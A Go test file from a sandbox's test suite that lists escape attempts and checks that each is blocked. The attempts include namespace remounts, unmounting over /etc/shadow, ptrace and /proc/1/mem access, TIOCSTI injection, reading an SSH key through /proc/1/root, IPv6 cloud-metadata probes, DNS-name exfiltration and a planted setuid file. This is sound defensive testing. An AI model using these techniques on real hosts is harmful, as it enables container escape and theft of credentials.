package sandbox

import (
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() { commands["escapes-nested"] = tryNested }

// laterEscapes are tried after the others: by namespaces of their own, by the first process, by
// other ways to the same files, and by what is left behind.
var laterEscapes = []escape{
	{"make what protects writable in a namespace", ".....", nested("remount"), there("project/.git/remounted")},
	{"unmount what protects in a namespace", ".....", nested("unmount"), there("project/.git/unmounted")},
	{"unmount what hides in a namespace", ".....", nested("uncover"), nil},
	{"make a mount that is seen outside", ".....", nested("propagate"), there("project/mnt/seen")},
	{"write settings of the kernel by another /proc", ".....", nested("proc"), nil},
	{"write the control group of your programs in a namespace", "....?", nested("cgroup"), hasForgedGroup},
	{"find the namespace above", ".....", findsParent, nil},
	{"read a key through the first process", ".....", readsFirst, nil},
	{"trace the first process", "???..", func(*outside) error { return unix.PtraceSeize(1) }, nil},
	{"write the memory of the first process", "???..", func(*outside) error {
		return ignoring(os.OpenFile("/proc/1/mem", os.O_RDWR, 0))
	}, nil},
	{"write the program of the sandbox", ".....", func(*outside) error {
		return ignoring(os.OpenFile("/proc/self/exe", os.O_WRONLY, 0))
	}, nil},
	{"change the mode of the program of the sandbox", "...xx", func(*outside) error {
		return os.Chmod("/proc/self/exe", 0o755)
	}, nil},
	{"link an unnamed file into a protected directory", "...xx", linksUnnamed,
		there("project/.git/hooks/unnamed")},
	{"type into its own terminal by a longer number", "....?", func(*outside) error {
		b := byte('x')
		_, _, e := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI|1<<32, uintptr(unsafe.Pointer(&b)))
		return errorOf(e)
	}, nil},
	{"reach the loopback by IPv6", ".....", asksProxy("[::1]:%s"), reached("refused")},
	{"reach the loopback by translated IPv6", ".....", asksProxy("[64:ff9b::7f00:1]:%s"), reached("refused")},
	{"reach the metadata of a cloud by IPv6", ".....", asksProxy("[fd00:ec2::254]:80"), nil},
	{"enter the namespaces of a process", ".....", func(w *outside) error {
		fd, err := unix.PidfdOpen(w.PIDs["bystander"], 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		return unix.Setns(fd, unix.CLONE_NEWNS|unix.CLONE_NEWNET)
	}, nil},
	{"set the clock of the machine", ".....", func(*outside) error {
		now := unix.NsecToTimespec(time.Now().UnixNano())
		return unix.ClockSettime(unix.CLOCK_REALTIME, &now)
	}, nil},
	{"restart the machine", ".....", func(*outside) error {
		err := unix.Reboot(0) // no command, but who may not give one is refused first
		if errors.Is(err, unix.EINVAL) {
			return nil
		}
		return err
	}, nil},
	{"account for all processes", ".....", func(w *outside) error {
		return unix.Acct(w.path("project/accounts"))
	}, nil},
	{"change your network", ".....", changesNetwork, nil},
	{"make a file system of a program of its own (FUSE)", "....?", func(*outside) error {
		return ignoring(os.OpenFile("/dev/fuse", os.O_RDWR, 0))
	}, nil},
	{"forge an event of a device", ".....", appends("/sys/devices/virtual/mem/null/uevent"), nil},
	{"open a message queue (POSIX) of yours", "....x", opensQueue, nil},
	{"change the kernel's memory of a process", "....?", func(w *outside) error { // process_madvise
		fd, err := unix.PidfdOpen(w.PIDs["bystander"], 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		_, _, e := unix.Syscall6(unix.SYS_PROCESS_MADVISE, uintptr(fd), 0, 0, unix.MADV_COLD, 0, 0)
		return errorOf(e)
	}, nil},
	{"move the memory of a process", "....?", func(w *outside) error {
		_, _, e := unix.Syscall6(unix.SYS_MOVE_PAGES, uintptr(w.PIDs["bystander"]), 0, 0, 0, 0, 0)
		return errorOf(e)
	}, nil},
	{"compare what processes have open", "....?", func(w *outside) error {
		_, _, e := unix.Syscall6(unix.SYS_KCMP, uintptr(w.PIDs["bystander"]), uintptr(os.Getpid()), 1, 0, 0, 0)
		return errorOf(e)
	}, nil},
	{"send data in a name that the proxy looks up", ".....", asksProxy("what-it-knows.example.org:443"), nil},
	{"run a program that no file has", "xxxxx", runsUnnamed, nil},
	{"lock a file of the system that others lock", "xxxxx", locksReadable, nil},
	{"connect to a socket in the worktree", "xxxsx", connects("unix", "worktree"), reached("worktree")},
	{"leave a program in the worktree that runs as you", "xxxxx", func(w *outside) error {
		name := w.path("project/setuid")
		return errors.Join(os.WriteFile(name, nil, 0o600), os.Chmod(name, 0o755|os.ModeSetuid))
	}, func(w *outside) bool { return w.mode("project/setuid")&os.ModeSetuid != 0 }},
}

// nested tries something as the root of namespaces of its own.
func nested(what string) func(*outside) error {
	return func(w *outside) error {
		data, err := json.Marshal(w)
		if err != nil {
			return err
		}
		self, err := os.Executable()
		if err != nil {
			return err
		}
		cmd := exec.Command(self, "escapes-nested", string(data), "--", what)
		cmd.SysProcAttr = &syscall.SysProcAttr{
			Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWPID | unix.CLONE_NEWCGROUP |
				unix.CLONE_NEWNET,
		}
		if os.Geteuid() != 0 { // Root without capabilities cannot be mapped, and owns its files all the same.
			one := func(id int) []syscall.SysProcIDMap { return []syscall.SysProcIDMap{{HostID: id, Size: 1}} }
			cmd.SysProcAttr.UidMappings, cmd.SysProcAttr.GidMappings = one(os.Geteuid()), one(os.Getegid())
		}
		out, err := cmd.CombinedOutput()
		if err != nil {
			return fmt.Errorf("%w: %s", err, out)
		}
		return nil
	}
}

// tryNested is what the root of a namespace does.
func tryNested(data string, argv []string) error {
	w := &outside{}
	if err := json.Unmarshal([]byte(data), w); err != nil {
		return err
	}
	project, git := w.path("project"), w.path("project/.git")
	mnt := filepath.Join(project, "mnt")
	if err := os.MkdirAll(mnt, 0o755); err != nil {
		return err
	}
	steps := map[string][2]func() error{ // the second one only after the first
		"remount": {func() error { return unix.Mount("", git, "", unix.MS_REMOUNT|unix.MS_BIND, "") },
			func() error { return os.WriteFile(git+"/remounted", nil, 0o600) }},
		"unmount": {func() error { return unix.Unmount(git, unix.MNT_DETACH) },
			func() error { return os.WriteFile(git+"/unmounted", nil, 0o600) }},
		"uncover": {func() error { return unix.Unmount("/etc/shadow", unix.MNT_DETACH) },
			func() error { return ignoring(os.ReadFile("/etc/shadow")) }},
		"propagate": {func() error { return unix.Mount("none", mnt, "tmpfs", 0, "") },
			func() error { return os.WriteFile(mnt+"/seen", nil, 0o600) }},
		"proc": {func() error { return unix.Mount("none", mnt, "proc", 0, "") }, func() error { // it is opened only
			return ignoring(os.OpenFile(mnt+"/sys/kernel/core_pattern", os.O_WRONLY, 0))
		}},
		"cgroup": {func() error { return unix.Mount("none", mnt, "cgroup2", 0, "") },
			func() error { return os.Mkdir(filepath.Join(mnt, forgedGroup), 0o755) }},
	}
	maps.Copy(steps, freshSteps(git))
	for _, step := range steps[argv[0]] {
		if err := step(); err != nil {
			return err
		}
	}
	return nil
}

// findsParent asks the kernel for the namespace of users that this one is in.
func findsParent(*outside) error {
	own, err := os.Open("/proc/self/ns/user")
	if err != nil {
		return err
	}
	defer own.Close()
	_, err = unix.IoctlRetInt(int(own.Fd()), unix.NS_GET_PARENT)
	return err
}

// readsFirst looks for a way out among what the first process inside has open.
func readsFirst(w *outside) error {
	tops := []string{"/proc/1/root", "/proc/1/cwd"}
	if entries, err := os.ReadDir("/proc/1/fd"); err == nil {
		for _, e := range entries {
			tops = append(tops, "/proc/1/fd/"+e.Name())
		}
	}
	below := w.path("home/.ssh/id_rsa")
	for _, top := range tops {
		for _, up := range []string{"", "/..", "/../../../../../../.."} {
			if data, err := os.ReadFile(top + up + below); err == nil && strings.Contains(string(data), "secret") {
				return nil
			}
		}
	}
	return fmt.Errorf("%d ways lead nowhere", len(tops))
}

// linksUnnamed gives a name to a file without one.
func linksUnnamed(w *outside) error {
	fd, err := unix.Open(w.path("project"), unix.O_TMPFILE|unix.O_WRONLY, 0o600)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Linkat(unix.AT_FDCWD, fmt.Sprintf("/proc/self/fd/%d", fd), unix.AT_FDCWD,
		w.path("project/.git/hooks/unnamed"), unix.AT_SYMLINK_FOLLOW)
}

// changesNetwork sets the flags of the loopback to what they are.
func changesNetwork(*outside) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	lo, err := unix.NewIfreq("lo")
	if err != nil {
		return err
	}
	if err := unix.IoctlIfreq(fd, unix.SIOCGIFFLAGS, lo); err != nil {
		return err
	}
	return unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, lo)
}

// queueName returns the name of a message queue of the fixture, without a slash.
func (w *outside) queueName() *byte {
	name, _ := unix.BytePtrFromString(filepath.Base(w.Base)) // It has no zero byte.
	return name
}

// opensQueue opens a message queue of a program outside.
func opensQueue(w *outside) error {
	fd, _, e := unix.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(w.queueName())), unix.O_RDONLY, 0, 0, 0, 0)
	if e == 0 {
		unix.Close(int(fd))
	}
	return errorOf(e)
}

// runsUnnamed runs a program from memory.
func runsUnnamed(*outside) error {
	data, err := os.ReadFile("/bin/true")
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("program", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if _, err := unix.Write(fd, data); err != nil {
		return err
	}
	return exec.Command(fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), fd)).Run()
}

// locksReadable locks a file that it can only read, as programs outside may want to.
func locksReadable(*outside) error {
	fd, err := unix.Open("/etc/passwd", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Flock(fd, unix.LOCK_EX|unix.LOCK_NB)
}
